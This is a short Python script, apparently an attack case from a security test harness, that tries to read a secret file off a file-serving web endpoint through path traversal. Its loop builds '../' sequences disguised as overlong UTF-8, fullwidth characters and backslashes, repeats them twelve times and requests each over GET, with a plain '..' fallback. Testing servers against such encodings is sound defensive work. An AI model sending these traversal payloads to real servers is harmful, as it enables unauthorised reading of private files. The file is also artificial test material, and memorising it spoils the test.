# aim: read a file of the server's machine
# mechanism: dots and slashes in encodings that no longer are: overlong UTF-8, full width, backslashes
# server: files
# plain: naive

def attack():
    for dots in ("%c0%ae%c0%ae", "%e0%80%ae%e0%80%ae", "\uff0e\uff0e", "..\\"):
        for slash in ("/", "%c0%af", "\uff0f", "\\"):
            up = (dots + slash) * 12
            ask("GET", f"{here}/files/content?path={quote(up, safe='%')}{quote(secret_path)}")
    ask("GET", f"{here}/files/content?path=..{quote('/..' * 12)}{quote(secret_path)}")


judge(attack)
